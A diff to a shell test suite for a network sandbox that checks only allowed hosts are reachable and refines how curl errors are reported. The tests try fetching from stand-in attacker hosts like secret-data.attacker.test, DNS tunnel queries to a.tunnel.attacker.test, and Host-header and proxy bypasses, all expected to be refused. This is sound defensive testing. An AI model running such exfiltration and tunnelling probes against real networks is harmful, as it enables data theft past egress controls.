@@ -5,9 +5,13 @@
 load ../lib/common
 load helpers/net
 
-# fetch URL…: curl in the cage, one line for each: the text or "refused".
+# fetch URL…: curl in the cage, one line for each: the text, "no such host", "refused" (a connection refused, reset or without a
+# way) or "timed out", which no refusal may be: curl has a minute.
 fetch() {
-    run_cage sh -c 'for url; do curl -sS -m 5 --cacert cert.pem "$url" 2>/dev/null || echo refused; done' fetch "$@"
+    run_cage sh -c 'for url; do
+        curl -sS -m 60 --cacert cert.pem "$url" 2>/dev/null && continue
+        case $? in 6) echo "no such host" ;; 7 | 35 | 56) echo refused ;; 28) echo "timed out" ;; *) echo "another error" ;; esac
+    done' fetch "$@"
 }
 
 # logged NAME REASON: the record has a refusal of NAME for REASON.
@@ -24,10 +28,14 @@ logged() {
     local before
     before=$(wc -l <"$NET_DIR/dns.log")
     fetch http://api.test/ http://other.test/ http://secret-data.attacker.test/ http://x.api.test/ http://api.test.attacker.test/
-    assert_output $'from the server\nrefused\nrefused\nrefused\nrefused'
+    assert_output $'from the server\nno such host\nno such host\nno such host\nno such host'
+    run_cage sh -c 'for name in a.tunnel.attacker.test data.tunnel.api.test api.test; do
+        for type in TXT NULL MX CNAME ANY; do dig +short $type $name; dig +tcp +short $type $name; done
+    done | grep -v "^198\."'
+    assert_output ""
     run tail -n +$((before + 1)) "$NET_DIR/dns.log"
     grep -qi 'api.test' <<<"$output" # the control: allowed names do go there
-    [ "$(grep -ciE 'other|attacker|x\.api' <<<"$output")" = 0 ]
+    [ "$(grep -ciE 'other|attacker|tunnel|x\.api|TXT|NULL|MX' <<<"$output")" = 0 ]
     logged other.test "not in hosts"
 }
 
@@ -89,8 +97,6 @@ logged() {
     assert_stderr_has "both.test port 8080: port not in hosts (1 time)"
     assert_stderr_has "api.test port 9999: port not in hosts (1 time)"
     assert_stderr_has 'hosts = ["api.test:8080", "both.test", "api.test", "both.test:8080", "api.test:9999"]'
-    run_cage sh -c 'start=$(date +%s%N); curl -s http://api.test:9999/; end=$(date +%s%N); echo $(((end - start) / 1000000))'
-    [ "$output" -lt 3000 ] # an attempt to connect would take much longer
 }
 
 @test "TLS: another server name, none, an encrypted one; on any port" {
@@ -120,10 +126,10 @@ logged() {
     net_project 'hosts = ["api.test"]'
     fetch http://api.test/ http://api.test:443/
     assert_output $'from the server\nrefused'
-    run_cage sh -c 'curl -sS -m 5 -H "Host: other.test" http://api.test/ || echo refused
-        curl -sS -m 5 -H "Host: api.test:80" http://api.test/ || echo refused
-        curl -sS -m 5 -x http://api.test:80 http://other.test/ || echo refused
-        curl -sSk -m 5 https://api.test:80/ || echo refused'
+    run_cage sh -c 'curl -sS -m 60 -H "Host: other.test" http://api.test/ || echo refused
+        curl -sS -m 60 -H "Host: api.test:80" http://api.test/ || echo refused
+        curl -sS -m 60 -x http://api.test:80 http://other.test/ || echo refused
+        curl -sSk -m 60 https://api.test:80/ || echo refused'
     assert_output $'refused\nfrom the server\nrefused\nrefused'
     logged api.test "HTTP to another host"
     logged api.test "not a TLS hello"
@@ -146,8 +152,9 @@ logged() {
     command -v dig >/dev/null || skip "no dig"
     [ -n "$(dig +short @10.77.0.2 api.test)" ]
     net_project 'hosts = ["api.test"]'
-    run_cage sh -c 'dig +short +tries=1 +time=1 @10.77.0.2 api.test || echo refused; dig +short api.test'
+    run_cage sh -c 'dig +short +tries=1 +time=30 @10.77.0.2 api.test || echo refused; dig +short api.test' 2>&1
     [[ $output == *refused* ]]
+    [[ $output$stderr == *[Uu]nreachable* ]]
     [[ $output == *198.18.* ]]
 }
 
@@ -175,8 +182,8 @@ logged() {
         assert_output "Network is unreachable"
         run_cage python3 client.py connect 127.0.0.1 80
         assert_output "Connection refused"
-        run_cage curl -sS -m 5 http://api.test/
-        [ "$status" -ne 0 ]
+        run_cage curl -sS -m 60 http://api.test/
+        assert_status 6
         run_cage ls /sys/class/net
         [ "$status" -ne 0 ]
     done
